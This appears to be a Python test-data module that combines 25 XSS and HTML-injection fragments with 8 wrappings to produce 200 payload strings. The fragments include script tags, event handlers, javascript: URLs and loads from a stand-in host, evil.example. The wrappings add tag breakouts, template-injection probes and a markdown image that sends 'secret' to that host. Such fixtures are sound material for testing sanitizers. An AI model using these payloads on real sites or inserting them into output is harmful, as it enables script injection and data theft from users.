"""Two hundred texts that want to be code: twenty-five hostile fragments in eight wrappings (D09)."""

from __future__ import annotations

FRAGMENTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
)
WRAPPINGS = (
    "{}",
    "\"'>{}",
    "</textarea></title></style></script>{}",
    "[x](javascript:alert(1)) {}",
    "![x](https://evil.example/?q=secret) {}",
    "<!--{}-->",
    "]]>{}<![CDATA[",
    "{{{{7*7}}}} ${{7*7}} {{% raw %}}{}",
)
PAYLOADS = tuple(wrapping.format(fragment) for wrapping in WRAPPINGS for fragment in FRAGMENTS)
